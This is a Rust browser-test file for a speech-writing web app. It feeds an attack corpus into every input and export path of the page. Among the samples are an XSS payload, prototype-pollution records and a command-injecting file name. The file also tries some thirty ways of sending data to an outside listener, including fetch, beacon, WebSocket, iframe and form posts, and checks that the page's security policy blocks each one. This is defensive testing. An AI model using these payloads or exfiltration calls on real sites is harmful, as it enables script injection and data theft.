//! The attack corpus in the real page: by every way in and every way out, with a watch on the page
//! that sees any script run, any element that the app does not make, any request, any violation of
//! the policy. And the page's own border: nothing inside it can reach out.

use std::cell::RefCell;
use std::collections::BTreeMap;

use gaojiang::compose::compose;
use gaojiang::opening;
use gaojiang::pack;
use gaojiang::paginate::paginate;
use gaojiang::read;
use gaojiang::speech::{Speech, Workspace};
use gaojiang::store::{self, Keeper, Refused, Storage, WriteError};
use serde_json::{Value, json};

use super::app::{new_empty_speech, open, show};
use super::corpus::{Attack, files, strings, workspace};
use super::harness::{Browser, Page, TempDir, js, page_url};

/// Runs in the page before anything of it does.
const WATCH: &str = r#"(() => {
    const seen = [];
    Object.defineProperty(window, '__seen', { value: seen });
    Object.defineProperty(window, '__pwned', { set: () => seen.push('a script ran: ' + new Error().stack) });
    addEventListener('securitypolicyviolation', e => seen.push(`policy: ${e.violatedDirective} ${e.blockedURI} ${e.sample}`), true);
    addEventListener('error', e => {
        // Says that sizes come a frame later, no more.
        if (!/^ResizeObserver loop/.test(e.message)) seen.push('error: ' + e.message);
    }, true);
    addEventListener('unhandledrejection', e => seen.push('rejected: ' + e.reason));
    const odd = /^(script|iframe|frame|object|embed|applet|base|form|img|image|svg|math|audio|video|source|track|link|meta|style|template|marquee|isindex|portal|canvas)$/;
    const look = e => {
        // What the page itself comes with is known.
        if (!window.__started) return;
        if (odd.test(e.localName)) seen.push('element: ' + e.outerHTML.slice(0, 200));
        for (const { name, value } of e.attributes) {
            // Names of fonts stand in quotes.
            const style = name === 'style' ? value.replace(/'[^']*'|"[^"]*"/g, '') : '';
            const runs = /^(href|src|action|data|poster)$/.test(name) && /^\s*(javascript|data|vbscript):/i.test(value);
            if (runs || /^on|^srcdoc$|^formaction$|^xlink/.test(name) || /url\(|expression|@import|[{}]/i.test(style))
                seen.push(`attribute: ${e.localName} ${name}=${value}`);
        }
    };
    const watch = new MutationObserver(records => {
        for (const { type, target, addedNodes } of records) {
            if (type === 'attributes') look(target);
            for (const node of addedNodes) if (node.nodeType === 1) [node, ...node.querySelectorAll('*')].forEach(look);
        }
    });
    watch.observe(document, { childList: true, subtree: true, attributes: true });
})()"#;

/// What the watch saw, and whether objects still have only what they had.
const SEEN: &str = r#"(() => {
    const keys = [];
    for (const key in {}) keys.push('Object.prototype.' + key);
    for (const key in []) keys.push('Array.prototype.' + key);
    return [...__seen, ...keys];
})()"#;

fn watched(browser: &Browser, before: &str) -> Page {
    let page = browser.page();
    let source = format!("{before}\n{WATCH}");
    page.before_load(&source);
    show(&page, &page_url());
    page.eval("window.__started = true");
    page
}

#[track_caller]
fn assert_clean(page: &Page, after: &str) {
    assert_eq!(page.eval(SEEN), json!([]), "after {after}");
    assert_eq!(page.errors(), [""; 0], "after {after}");
    assert_eq!(page.requests(), [page_url()], "after {after}");
    assert_eq!(page.dialogs(), [""; 0], "after {after}");
}

#[derive(Default)]
struct Memory(RefCell<BTreeMap<String, String>>);

impl Storage for Memory {
    fn get(&self, key: &str) -> Result<Option<String>, Refused> {
        Ok(self.0.borrow().get(key).cloned())
    }
    fn set(&self, key: &str, value: &str) -> Result<(), WriteError> {
        self.0.borrow_mut().insert(key.to_owned(), value.to_owned());
        Ok(())
    }
    fn remove(&self, key: &str) -> Result<(), Refused> {
        self.0.borrow_mut().remove(key);
        Ok(())
    }
    fn keys(&self) -> Result<Vec<String>, Refused> {
        Ok(self.0.borrow().keys().cloned().collect())
    }
}

/// A script that puts records into the store before the page reads it the first time.
fn planted(workspace: &Workspace, attacks: &[Attack]) -> String {
    let memory = Memory::default();
    assert_eq!(Keeper::default().save(&memory, workspace, 1).failed, None);
    let mut records = memory.0.take();
    // And what no program of ours wrote, under names that ours might have.
    for (at, attack) in attacks.iter().enumerate().step_by(4) {
        let sort = ["speech", "pack", "aside", "x"][at / 4 % 4];
        records.insert(format!("gaojiang/{sort}/{}", attack.text), attack.text.clone());
    }
    for name in ["values", "settings", "index", "own", "prefs"] {
        records.insert(format!("gaojiang/{name}/x"), "[".repeat(10_000));
    }
    records.insert("gaojiang/prefs".to_owned(), "{\"__proto__\":{\"pwned\":1}}".to_owned());
    let records = serde_json::to_string(&records).unwrap();
    format!(
        "if (!sessionStorage.getItem('planted')) {{
            sessionStorage.setItem('planted', '1');
            for (const [name, text] of Object.entries({records})) localStorage.setItem(name, text);
        }}"
    )
}

/// The words on the sheets.
fn on_sheets(workspace: &Workspace, speech: &Speech) -> String {
    let layout = workspace.layout_of(speech).layout();
    let document = compose(speech, &layout);
    let sheets = paginate(&document, &layout);
    let lines = sheets.iter().flat_map(|sheet| &sheet.lines).map(|placed| &placed.line);
    lines
        .flat_map(|line| {
            line.spans
                .iter()
                .map(|span| line.paragraph.runs[span.run].text[span.range.clone()].to_owned())
        })
        .collect()
}

/// All that the sheets say: those out of view are drawn when they come into it.
const SHOWN: &str = r#"(async () => {
    let shown = '';
    for (let at = 0; at < document.querySelectorAll('.sheet-box').length; at++) {
        const box = () => document.querySelectorAll('.sheet-box')[at];
        box().scrollIntoView();
        for (let turn = 0; turn < 100 && !box()?.querySelector('.sheet .text-area'); turn++) await new Promise(done => setTimeout(done, 10));
        shown += [...box().querySelectorAll('.sheet .line')].map(e => e.textContent).join('');
    }
    return shown;
})()"#;

/// HTML from the clipboard as a browser reads it: what is odd in it, and its text.
const PARSED: &str = r#"(html => {
    const page = new DOMParser().parseFromString(html, 'text/html');
    const known = /^(html|head|meta|body|p|h1|h2|h3|span|b|i|br|table|tbody|thead|tr|td|th)$/;
    const all = [...page.querySelectorAll('*')];
    const odd = all.filter(e => !known.test(e.localName)).map(e => e.outerHTML.slice(0, 100));
    for (const e of all) for (const a of e.attributes) if (/^on|href|src|action/i.test(a.name)) odd.push(`${a.name}=${a.value}`);
    return [odd.join('\n'), page.body.textContent];
})"#;

fn letters(text: &str) -> String {
    text.chars().filter(|c| c.is_alphanumeric()).collect()
}

#[test]
#[ignore = "needs the built page and a browser; cargo xtask test runs it"]
fn what_is_kept_is_text_on_every_way_out() {
    let attacks = strings();
    let mine = workspace(&attacks, true);
    let browser = Browser::fresh();
    let page = watched(&browser, &planted(&mine, &attacks));
    page.wait(".set-aside");
    page.click_text(".set-aside button", "以后再说");
    page.wait_gone(".set-aside");
    assert_clean(&page, "loading");

    // Another page, whose policy has nothing to say to styles.
    let reader = browser.page();
    page.to_front();

    // Each speech, in fields and on sheets, and what it gives to others.
    for (at, speech) in mine.speeches.iter().enumerate() {
        page.eval("document.querySelector('.speech-switch').click()");
        page.wait("dialog .speech-item");
        // By its place among those of the same time.
        page.eval(&format!("document.querySelectorAll('dialog .speech-item')[{at}].querySelector('.primary').click()"));
        page.wait_gone("dialog");
        page.wait_eq(SHOWN, on_sheets(&mine, speech));
        let tab = |at: usize| {
            page.eval(&format!(
                "document.querySelectorAll('.speech-pane .tabs [role=tab]')[{at}].click()"
            ))
        };
        tab(1);
        page.wait(".slot");
        tab(0);
        page.wait("[data-text]");
        if at % 5 > 0 {
            continue;
        }
        let document = compose(speech, &mine.layout_of(speech).layout());
        let words = letters(&document.paragraphs.iter().map(|p| p.text()).collect::<String>());
        page.click(".copy-all");
        page.wait_text(".toast", "已复制全文");
        let (html, plain) = page.clipboard();
        let parsed = reader.eval(&format!("{PARSED}({})", js(&html)));
        assert_eq!(parsed[0], "");
        assert_eq!(letters(parsed[1].as_str().unwrap()), words);
        assert_eq!(letters(&plain), words);
        page.click(".download-docx");
        let docx = std::fs::read(browser.wait_download()).unwrap();
        let source = read::file("a.docx", &docx).unwrap();
        let body = source.lines.iter().filter(|line| line.part != read::Part::Margin);
        assert_eq!(letters(&body.map(|line| line.text.as_str()).collect::<String>()), words);
        for format in [".txt", ".md"] {
            page.click(".bar .menu.right summary");
            page.click_text(".bar .menu-list button", &format!("下载 {format}"));
            let text = std::fs::read_to_string(browser.wait_download()).unwrap();
            assert_eq!(letters(&text), words, "{format}");
        }
        assert_clean(&page, "writing");
    }
    assert!(page.pdf().starts_with(b"%PDF"));

    // Every dialog and list that shows names.
    page.eval("document.querySelector('.finding-count').click()");
    page.wait("dialog .findings");
    page.press("Escape");
    page.wait_gone("dialog");
    page.click(".show-source");
    page.wait(".source-text");
    page.press("Escape");
    page.wait_gone("dialog");
    page.eval("document.querySelectorAll('.speech-pane .tabs [role=tab]')[1].click()");
    page.wait(".value-sets summary");
    page.click(".value-sets summary");
    page.eval("document.querySelector('.value-sets .set-row button').click()");
    page.wait_text(".toast", "已套用");
    page.eval(
        "for (const head of document.querySelectorAll('.block-item .block-head')) head.click()",
    );
    page.click(".bar .menu.right summary");
    page.click(".open-layouts");
    page.wait(".layouts-pane");
    page.click(".layouts-pane .icon");
    page.wait_gone(".layouts-pane");
    page.click_text(".library .tab", "素材包");
    page.wait(".pack-tools");
    page.eval("for (const button of document.querySelectorAll('[data-pack] button')) if (button.innerText === '属性') { button.click(); break; }");
    page.wait("dialog .pack-form");
    page.press("Escape");
    page.wait_gone("dialog");
    assert_clean(&page, "looking about");

    // All packs, and everything.
    page.click_text(".pack-tools button", "导出…");
    page.wait("dialog .export");
    page.eval("(() => { const all = document.querySelector('dialog .check.all input'); if (!all.checked) all.click(); })()");
    page.click("dialog .primary");
    let zip = std::fs::read(browser.wait_download()).unwrap();
    let packs: Vec<gaojiang::library::Pack> = opening::unzip(&zip)
        .unwrap()
        .iter()
        .map(|(_, bytes)| pack::read(&read::characters(bytes)).0)
        .collect();
    for installed in &mine.packs {
        let written = pack::read(&pack::write(&installed.pack)).0;
        assert!(packs.contains(&written), "{}", installed.pack.id);
    }
    page.click(".bar .menu.right summary");
    page.click_text(".bar .menu-list button", "备份全部内容");
    let backup = browser.wait_download();
    let saved = store::restore(&std::fs::read_to_string(&backup).unwrap()).unwrap();
    for speech in &mine.speeches {
        let there = saved.speech(&speech.id).unwrap_or_else(|| panic!("{}", speech.id));
        assert!(there.sections == speech.sections && there.title == speech.title, "{}", speech.id);
    }
    assert!(saved.own == mine.own && saved.packs == mine.packs);

    // Backups of any sort: a message or what they hold.
    let folder = TempDir::new();
    let mut given = vec![backup];
    for (name, bytes) in files().into_iter().filter(|(name, _)| name.ends_with(".json")) {
        let path = folder.path().join(name);
        std::fs::write(&path, bytes).unwrap();
        given.push(path);
    }
    for path in &given {
        page.eval("document.querySelector('.toast .icon')?.click()");
        page.wait_gone(".toast");
        page.choose_files("[data-field=restore]", &[path]);
        page.wait(".toast");
    }
    page.wait_text(".saved", "已保存");
    page.reload();
    page.wait(".sheet .line");
    page.eval("document.querySelector('.set-aside button:last-child')?.click()");
    assert_eq!(page.eval(SEEN), json!([]), "after restoring");
    assert_eq!(page.errors(), [""; 0]);
    let (asked, ours): (Vec<String>, String) = (page.requests(), page_url());
    assert!(asked.iter().all(|asked| *asked == ours), "{asked:?}");
    browser.finish();
}

/// Types each text into a field, as far as a script can: what a key or an input method does to it.
const TYPE: &str = r#"((css, texts) => {
    const field = document.querySelector(css);
    if (!field) return 'no ' + css;
    field.focus();
    const set = Object.getOwnPropertyDescriptor(field.constructor.prototype, 'value').set;
    for (const text of texts) {
        set.call(field, text);
        field.dispatchEvent(new InputEvent('input', { bubbles: true }));
    }
    return '';
})"#;

fn type_all(page: &Page, css: &str, texts: &[&str]) {
    page.wait(css);
    let texts = Value::from(texts.to_vec()).to_string();
    assert_eq!(page.eval(&format!("{TYPE}({}, {texts})", js(css))), "");
    // And all of them with real keys' trust.
    page.eval(&format!("document.querySelector({}).select()", js(css)));
}

#[test]
#[ignore = "needs the built page and a browser; cargo xtask test runs it"]
fn what_comes_in_is_text_by_every_way() {
    let attacks = strings();
    let texts: Vec<&str> = attacks.iter().map(|attack| &*attack.text).collect();
    let all = texts.join("\n");
    let browser = Browser::fresh();
    let page = watched(&browser, "");
    page.click(".hint .icon");
    new_empty_speech(&page);

    // Every field.
    for css in [
        "[data-field=title]", "[data-field=speaker]", "[data-field=salutation]",
        ".card .card-title", "[data-field=search]",
    ] {
        type_all(&page, css, &texts);
        page.call("Input.insertText", json!({ "text": all }));
        page.wait_for(&format!("document.querySelector({}).value.includes('__proto__')", js(css)));
        type_all(&page, css, &[""]);
    }
    type_all(&page, "[data-text]", &texts);
    page.call("Input.insertText", json!({ "text": all }));
    page.wait_for("document.querySelector('[data-text]').value.includes('__proto__')");
    page.wait_for("document.querySelectorAll('.sheet-box').length > 3");
    assert_clean(&page, "typing");
    let slots = "{{值}}和{{列表甲}}和{{<b>}}和{{__proto__}}\n一、{{值}}";
    page.fill("[data-text]", slots);
    page.click_text(".tabs .tab", "填空");
    for css in ["[data-slot=值]", "[data-slot=__proto__]"] {
        type_all(&page, css, &texts);
        page.call("Input.insertText", json!({ "text": "<img src=x onerror=window.__pwned=1>" }));
    }
    page.wait_text(".sheet .line", "<img src=x onerror");
    page.click(".value-sets summary");
    for text in texts.iter().step_by(12) {
        type_all(&page, "[data-field=value-set]", &[text]);
        page.eval("document.querySelector('.value-sets .set-row .primary').click()");
    }
    page.wait_for("document.querySelectorAll('.value-sets .set-row').length > 10");
    page.press("Escape");
    page.eval("document.querySelector('.speech-switch').click()");
    type_all(&page, "dialog .speech-name input, dialog input.speech-name", &texts);
    page.press("Escape");
    page.wait_gone("dialog");
    assert_clean(&page, "naming");

    // The clipboard, as HTML with each text raw in it and as text.
    page.click(".read-in");
    page.wait("[data-field=paste-speech]");
    let html: Vec<String> =
        texts.iter().map(|text| format!("<p>正文{text}</p><p>后文</p>")).collect();
    let pasted = page.eval(&format!(
        r#"(async texts => {{
            for (const [html, plain] of texts) {{
                const data = new DataTransfer();
                data.setData('text/html', html);
                data.setData('text/plain', plain);
                document.querySelector('.pages-pane').dispatchEvent(
                    new ClipboardEvent('paste', {{ bubbles: true, cancelable: true, clipboardData: data }}));
                await new Promise(done => setTimeout(done, 0));
            }}
            return texts.length;
        }})({})"#,
        serde_json::to_string(&html.iter().zip(&texts).collect::<Vec<_>>()).unwrap()
    ));
    assert_eq!(pasted, texts.len());
    page.wait_eq("document.querySelectorAll('.import-items .tab').length", texts.len());
    // Each is shown once.
    page.eval("(async () => { for (const tab of document.querySelectorAll('.import-items .tab')) { tab.click(); await new Promise(done => setTimeout(done, 0)); } })()");
    assert_clean(&page, "pasting");
    page.click(".import-close");
    page.wait_gone(".import");
    page.eval(&format!("navigator.clipboard.writeText({})", js(&all)));
    page.click(".read-in");
    page.wait("[data-field=paste-speech]:focus");
    page.press("Ctrl+v");
    page.wait_text(".unseen-note", "看不见的字符");
    page.click(".next-unseen");
    page.wait(".import-row[aria-selected=true] .unseen");
    // Every row and every slot is drawn as one scrolls.
    page.eval(
        "(async () => {
            for (const list of document.querySelectorAll('.import-rows, .import-list')) {
                for (let last = -1; last !== list.scrollTop; ) {
                    last = list.scrollTop;
                    list.scrollTop = list.scrollHeight;
                    await new Promise(done => setTimeout(done, 60));
                }
            }
        })()",
    );
    page.click(".import-make .primary");
    page.wait_gone(".import");
    page.wait(".sheet .line");
    assert_clean(&page, "making a speech");

    // Files, by the field and by a drop: read in, opened as packs, or refused with a message.
    let folder = TempDir::new();
    let (mut given, mut packs) = (Vec::new(), Vec::new());
    for (name, bytes) in files() {
        let path = folder.path().join(name);
        std::fs::write(&path, &bytes).unwrap();
        // A pack among them would be opened, and all else told to wait.
        let is_pack = name.ends_with(".zip")
            || name.ends_with(".md") && pack::is_pack(&read::characters(&bytes));
        if is_pack { packs.push(path) } else { given.push(path) }
    }
    let all_text = folder.path().join("=cmd'&<b>.txt");
    std::fs::write(&all_text, &all).unwrap();
    given.push(all_text);
    let paths: Vec<&std::path::Path> = given.iter().map(|path| &**path).collect();
    page.click(".read-in");
    page.wait(".import");
    page.choose_files("[data-field=import]", &paths);
    page.wait_text(".import-items", "=cmd'&<b>.txt");
    page.wait_for("!document.querySelector('.import-bar [role=status]')");
    assert_clean(&page, "reading files");
    page.eval("document.querySelector('.import-close')?.click()");
    page.eval("document.querySelector('dialog[open] header .icon')?.click()");
    page.wait_gone(".import");
    page.wait_gone("dialog");
    page.click_text(".library .tab", "素材包");
    let packs: Vec<&std::path::Path> = packs.iter().map(|path| &**path).collect();
    page.choose_files("[data-field=packs]", &packs);
    page.wait("dialog .problems");
    page.eval("document.querySelector('dialog .primary').click()");
    page.wait_gone("dialog");
    page.wait("[data-pack=__proto__]");
    page.wait("[data-pack=constructor]");
    assert_clean(&page, "opening packs");
    browser.finish();
}

#[test]
#[ignore = "needs the built page and a browser; cargo xtask test runs it"]
fn what_nobody_sees_is_shown_and_goes_with_one_click() {
    let (browser, page) = open();
    new_empty_speech(&page);
    page.click("[data-text]");
    page.call(
        "Input.insertText",
        json!({ "text": "拨款\u{202E}000,1元，\u{200B}👨\u{200D}👩到位" }),
    );
    // A mark in the field, a finding with what and where.
    page.wait_eq("document.querySelectorAll('.card .unseen-here').length", 2);
    page.wait_text(".finding-count", "1");
    page.click(".finding-count");
    page.wait_text("dialog .finding", "强制改变文字方向 U+202E 1 个、零宽空格 U+200B 1 个");
    page.click("dialog .strip-unseen");
    page.wait_text("dialog", "没有发现问题");
    page.press("Escape");
    page.wait_gone("dialog");
    page.wait_value("[data-text]", "拨款000,1元，👨\u{200D}👩到位");
    page.press("Ctrl+z");
    page.wait_eq("document.querySelectorAll('.card .unseen-here').length", 2);
    page.press("Ctrl+Shift+z");
    page.wait_eq("document.querySelectorAll('.card .unseen-here').length", 0);

    // What is pasted into a section comes without.
    page.fill("[data-text]", "");
    page.eval(&format!("navigator.clipboard.writeText({})", js("压实\u{200B}责任\u{FEFF}")));
    page.click("[data-text]");
    page.press("Ctrl+v");
    page.wait_value("[data-text]", "压实责任");
    page.wait_text(".toast", "去掉看不见的字符 2 个");
    browser.finish();
}

/// Every way that a page has of reaching out, tried from inside it: each is refused.
#[test]
#[ignore = "needs the built page and a browser; cargo xtask test runs it"]
fn nothing_leaves_the_page() {
    let listener = std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap();
    listener.set_nonblocking(true).unwrap();
    let host = listener.local_addr().unwrap().to_string();
    let (browser, page) = open();
    page.eval(
        "(() => { window.refused = []; document.addEventListener('securitypolicyviolation',
            e => refused.push(e.effectiveDirective)); })()",
    );
    let tries = [
        ("connect-src", "fetch('http://HOST/fetch').catch(() => 0)"),
        (
            "connect-src",
            "fetch('http://HOST/fetch', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' }).catch(() => 0)",
        ),
        (
            "connect-src",
            "(() => { const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/xhr'); x.send(); })()",
        ),
        ("connect-src", "(() => { try { new WebSocket('ws://HOST/ws'); } catch {} })()"),
        ("connect-src", "new EventSource('http://HOST/es') && 0"),
        ("connect-src", "navigator.sendBeacon('http://HOST/beacon', 'x')"),
        ("img-src", "(new Image().src = 'http://HOST/img')"),
        ("media-src", "(new Audio('http://HOST/audio').load())"),
        ("font-src", "new FontFace('x', 'url(http://HOST/font)').load().catch(() => 0)"),
        ("script-src-elem", "add('script', { src: 'http://HOST/script' })"),
        ("script-src-elem", "add('script', { textContent: 'window.ran = 1' })"),
        ("script-src-elem", "import('http://HOST/module').catch(() => 0)"),
        ("script-src", "(() => { try { window.ran = eval('1'); } catch {} })()"),
        ("script-src", "(() => { try { window.ran = new Function('return 1')(); } catch {} })()"),
        ("script-src", "setTimeout('window.ran = 1') && 0"),
        (
            "script-src-attr",
            "(() => { const e = add('b', {}); e.setAttribute('onclick', 'window.ran = 1'); e.click(); })()",
        ),
        ("style-src-elem", "add('style', { textContent: 'p{background:url(http://HOST/css)}' })"),
        (
            "style-src-attr",
            "document.body.setAttribute('style', 'background:url(http://HOST/attr)')",
        ),
        ("style-src-elem", "add('link', { rel: 'stylesheet', href: 'http://HOST/sheet' })"),
        ("", "add('link', { rel: 'manifest', href: 'http://HOST/manifest' })"),
        ("img-src", "add('link', { rel: 'icon', href: 'http://HOST/icon' })"),
        ("default-src", "add('link', { rel: 'prefetch', href: 'http://HOST/prefetch' })"),
        ("frame-src", "add('iframe', { src: 'http://HOST/frame' })"),
        ("frame-src", "add('iframe', { src: 'data:text/html,<script>parent.ran = 1</script>' })"),
        ("object-src", "add('object', { data: 'http://HOST/object', type: 'text/html' })"),
        ("object-src", "add('embed', { src: 'http://HOST/embed', type: 'text/html' })"),
        ("", "(() => { try { new Worker('http://HOST/worker'); } catch {} })()"),
        (
            "worker-src",
            "(() => { try { new Worker('data:text/javascript,fetch(\"http://HOST/\")'); } catch {} })()",
        ),
        (
            "form-action",
            "(() => { const f = add('form', { action: 'http://HOST/form', method: 'post' }); f.submit(); })()",
        ),
        ("base-uri", "add('base', { href: 'http://HOST/' })"),
    ];
    page.eval(
        "window.add = (name, with_) => document.body.appendChild(Object.assign(document.createElement(name), with_))",
    );
    let before = page.eval("performance.timeOrigin");
    let mut not_refused = Vec::new();
    for (directive, script) in tries {
        let script = script.replace("HOST", &host);
        page.eval("refused.length = 0");
        // As the page's own scripts run, not as a developer's.
        page.call(
            "Runtime.evaluate",
            json!({ "expression": format!("void {script}"), "userGesture": true, "allowUnsafeEvalBlockedByCSP": false }),
        );
        // What the browser does not do on a page from disk anyway, the policy need not refuse.
        if directive.is_empty() {
            continue;
        }
        let end = std::time::Instant::now() + std::time::Duration::from_millis(1500);
        loop {
            let said = page.eval("refused");
            if said.as_array().is_some_and(|said| said.iter().any(|said| said == directive)) {
                break;
            }
            if std::time::Instant::now() > end {
                not_refused.push(format!("{directive}: {script}: {said}"));
                break;
            }
        }
    }
    // A blob is the page's own, and its worker has the page's policy.
    let worker = page.eval(&format!(
        r#"new Promise(done => {{
            const script = `fetch('http://{host}/in-worker').then(() => postMessage('out'), () => postMessage('in'))`;
            const worker = new Worker(URL.createObjectURL(new Blob([script])));
            worker.onmessage = e => done(e.data);
            worker.onerror = () => done('in');
        }})"#
    ));
    assert_eq!(worker, "in");
    assert_eq!(page.eval("window.ran ?? null"), Value::Null);
    assert_eq!(page.eval("performance.timeOrigin"), before, "the page is the same");
    page.take_errors();
    // Chromium may shake hands with a host before it asks the policy about a frame or a form; not a
    // byte goes with it.
    std::thread::sleep(std::time::Duration::from_millis(300));
    let mut came = Vec::new();
    while let Ok((mut stream, _)) = listener.accept() {
        let mut asked = [0; 80];
        let _ = stream.set_nonblocking(false);
        let _ = stream.set_read_timeout(Some(std::time::Duration::from_millis(500)));
        let read = std::io::Read::read(&mut stream, &mut asked).unwrap_or_default();
        came.push(String::from_utf8_lossy(&asked[..read]).into_owned());
    }
    assert!(came.iter().all(String::is_empty), "something came out of the page: {came:?}");
    assert!(not_refused.is_empty(), "{not_refused:#?}");
    browser.finish();
}
